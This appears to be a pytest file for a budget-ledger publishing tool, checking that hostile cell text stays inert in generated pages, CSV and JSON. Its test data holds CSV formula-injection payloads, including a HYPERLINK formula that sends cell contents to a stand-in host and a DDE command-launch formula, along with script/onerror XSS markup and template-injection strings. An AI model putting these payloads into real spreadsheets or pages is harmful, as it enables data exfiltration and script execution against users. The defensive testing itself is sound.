"""Cells that want to be code: refused when read, or harmless on pages, in CSV and in JSON."""

import csv
import io
import json
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest

from cost_appendix.label import cost_label
from cost_appendix.model import Ledger
from cost_appendix.open_data import appendix_files
from cost_appendix.pages import appendix_pages
from cost_appendix.reading import read_ledger
from tabular.table import read_rows
from tests.cost_appendix.ledgers import (
    ACCOUNT,
    LINE,
    ledger_of,
    record,
    revision,
    row,
    write_content,
)
from tests.cost_appendix.rendering import environment, render

CELLS = {
    "link": '=HYPERLINK("http://x.example/?"&A1;"klik")',
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+62 21 000",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "break": "baris\n=1+1",
    "separator": "baris;=1+1",
    "markup": "</td></table><script>alert(1)</script><img src=x onerror=alert(1)>",
    "quotes": "\"' onmouseover='alert(1)' x=\"",
    "template": "{{ config }}{% raw %}${7*7}",
    "marks": "a\u200fb\u061cc\u200ed",
    "arabic": "\u0643\u062a\u0627\u0628 60%",
    "cell end": 'x,y","z',
}
LONG = "&<'\"=" * 2000


class Tags(HTMLParser):
    """The names of all elements and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep the element and its attributes."""
        self.found |= {tag, *(f"{tag} {name}" for name, _ in attrs)}


def tags_of(ledger: Ledger, titles: str) -> set[str]:
    """Return every element and attribute of all pages and of a label."""
    records = {"a": record("a", title=titles, section_title=titles, form=titles)}
    tags = Tags()
    for page in appendix_pages(ledger, records, unit_names={"setjen": titles}):
        tags.feed(render(page))
    source = '{% from "cost_appendix/label.html" import cost_label %}{{ cost_label(x, "") }}'
    template = environment(autoescape=False).from_string(source)
    tags.feed(template.render(x=cost_label(ledger, "a", "ada", titles)))
    return tags.found


def ledger_with(content: Path, text: str) -> Ledger:
    """Return a ledger with a text in every cell that somebody may write freely."""
    rows = [
        row(
            1,
            rekor="a",
            uraian=text[:160],
            nomor_bukti=text,
            penerima=f"perusahaan:{text}",
            rup=text,
            mata_anggaran=text,
        )
    ]
    line = LINE | {"id": text, "program": text, "kegiatan": text, "uraian": text}
    revisions = [revision(1, mata_anggaran=text, alasan=text[:160])]
    accounts = [ACCOUNT | {"uraian": text, "keterangan": text}]
    return ledger_of(content, *rows, budget=[line], revisions=revisions, accounts=accounts)


@pytest.mark.parametrize("name", CELLS)
def test_a_hostile_cell_is_but_text(tmp_path: Path, name: str) -> None:
    """No new element or attribute, no formula, and the words come back from the data."""
    text = CELLS[name]
    ledger = ledger_with(tmp_path / "isi", text)
    assert set() == tags_of(ledger, text) - tags_of(ledger_with(tmp_path / "biasa", "kata"), "kata")
    files = dict(appendix_files(ledger, {}))
    for path, data in files.items():
        if path.endswith(".csv"):
            cells = [c for line in csv.reader(io.StringIO(data.decode(), newline="")) for c in line]
            assert [] == [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]
            for separator in ";\t\n":
                pieces = [piece for cell in cells for piece in cell.split(separator)]
                assert [] == [piece for piece in pieces if piece.startswith(("=", "+", "-", "@"))]
    assert isinstance(json.loads(files["data/datapackage.json"]), dict)


def test_ten_kilobytes_in_a_cell_are_cut_on_pages_and_whole_in_the_data(tmp_path: Path) -> None:
    """A page stays light; the data lose nothing."""
    ledger = ledger_with(tmp_path, LONG)
    pages = appendix_pages(ledger, {"a": record("a", title=LONG)}, unit_names={"setjen": LONG})
    assert [] == [page.url for page in pages if len(render(page)) > 55_000]
    header = "nomor_bukti,rup"
    data = dict(appendix_files(ledger, {}))["data/biaya.csv"].decode()
    (found,) = csv.DictReader(io.StringIO(data, newline=""))
    assert [LONG, LONG] == [found[name] for name in header.split(",")]


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("nul\0", "T04"),
        ("balik\u202e", "T04"),
        ("isolat\u2066", "T04"),
        ("baris\r\nbaru", "T03"),
        ("baris\rbaru", "T03"),
        ("pemisah\u2028", "T04"),
    ],
)
def test_what_no_reviewer_can_see_is_refused(tmp_path: Path, text: str, code: str) -> None:
    """Controls and signs that turn the text are mistakes at their line, and the only ones."""
    write_content(tmp_path, row(1), row(2, rup=text))
    problems = read_ledger(tmp_path, None, date(2026, 12, 31))[1]
    assert [("data/biaya/2026.csv", 3, code)] == [(p.path, p.line, p.code) for p in problems]


def test_a_guarded_file_is_read_as_it_was_written(tmp_path: Path) -> None:
    """Quotation marks, separators and line breaks stay within their cell."""
    text = "".join(CELLS.values())[:150]
    data = dict(appendix_files(ledger_with(tmp_path, text), {}))["data/biaya.csv"].decode()
    columns = data.partition("\n")[0].split(",")
    rows, problems = read_rows(data, "x", columns)
    assert (1, []) == (len(rows), problems)
